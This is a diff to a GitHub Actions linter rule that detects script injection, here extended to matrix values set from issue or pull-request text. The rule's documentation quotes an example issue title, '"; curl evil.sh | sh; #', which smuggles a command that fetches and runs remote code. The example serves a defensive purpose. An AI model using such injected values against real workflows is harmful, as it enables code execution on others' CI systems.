@@ -5,7 +5,8 @@ import { defineRule } from "./_define-rule.js";
 import { type Reference, expressionFacts, findExpressions, formatReference } from "./_expressions.js";
 import { keyUnder, stepsWithin } from "./_nested-steps.js";
 import { parseUses } from "./_uses.js";
-import { type WorkflowView, isObject } from "./_workflow-view.js";
+import { type JobView, type WorkflowView, isObject } from "./_workflow-view.js";
+import { matrixValues } from "./_matrix.js";
 
 // Values anyone who can open an issue, comment or push a branch to a fork writes, as listed in
 // https://docs.github.com/actions/concepts/security/script-injections ("contexts that typically end
@@ -83,7 +84,8 @@ titled \`"; curl evil.sh | sh; #\` becomes part of the script and runs with the 
 Titles, bodies, comments, branch names, commit messages and author names are written by whoever
 opens the issue or pull request. Text compared (\`title == 'x'\`), negated or tested by \`contains()\`,
 \`startsWith()\` or \`endsWith()\` reaches the script only as true or false, and is not reported; text
-passed through \`format()\`, \`join()\`, \`toJSON()\` or \`||\` is.
+passed through \`format()\`, \`join()\`, \`toJSON()\` or \`||\` is, and so is a matrix value written with a
+\`\${{ }}\` that reads such text (\`include: [{ title: "\${{ github.event.issue.title }}" }]\`).
 See [script injections](https://docs.github.com/actions/concepts/security/script-injections).`,
     invalid: `on: pull_request
 jobs:
@@ -169,6 +171,18 @@ reach it. A level set in \`trunkline.config.ts\` applies to all of these.`,
                   : `env.${source.name} holds ${source.untrusted}, which whoever opens the issue or pull request writes, and \${{ env.${source.name} }} pastes it into this script before it runs`,
                 hint: `read the variable in the script instead (${isCode && isGithubScript(at.raw) ? `process.env.${source.name}` : `"$${source.name}"`}), not \${{ env.${source.name} }}`,
               });
+            } else if (reference.root === "matrix") {
+              // a matrix value written with `${{ }}` carries whatever that expression reads
+              const source = matrixSource(job, reference, workflow.raw["on"]);
+              if (!source) continue;
+              reported.add(key);
+              report({
+                path: use.path,
+                ...(within ? { within } : {}),
+                ...(source.unvetted ? { severity: "warning" as const } : {}),
+                message: `${text} is set from ${source.untrusted} in the job's matrix, ${source.unvetted ? "text this workflow does not control" : "which whoever opens the issue or pull request writes"}, and \${{ ${text} }} pastes it into this script before it runs`,
+                hint: "pass it through env: (NAME: ${{ " + text + " }}) and read the variable in the script",
+              });
             }
           }
         }
@@ -213,6 +227,19 @@ function untrustedEnv(levels: readonly (Json | undefined)[], on: Json | undefine
     }
   }
   return found;
+}
+
+// What a `matrix.<key>` reference may carry from the expressions its values are written with.
+function matrixSource(job: JobView, reference: Reference, on: Json | undefined): { untrusted: string; unvetted?: boolean } | undefined {
+  const values = matrixValues(job, reference.segments, { keepComputed: true });
+  let unvetted: { untrusted: string; unvetted?: boolean } | undefined;
+  for (const value of values ?? []) {
+    if (typeof value !== "string" || !value.includes("${{")) continue;
+    const source = untrustedIn(value, on);
+    if (source && !source.unvetted) return source;
+    unvetted ??= source;
+  }
+  return unvetted;
 }
 
 function untrustedIn(text: string, on: Json | undefined): { untrusted: string; unvetted?: boolean } | undefined {
